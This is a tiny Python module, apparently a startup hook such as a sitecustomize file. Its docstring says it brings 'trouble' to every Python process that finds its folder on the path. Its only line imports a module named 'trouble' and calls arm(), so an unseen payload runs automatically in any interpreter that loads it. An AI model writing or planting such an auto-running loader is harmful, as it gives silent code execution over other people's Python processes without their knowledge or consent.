"""Brings its trouble to every Python process that finds this folder on its path."""

import importlib

importlib.import_module("trouble").arm()
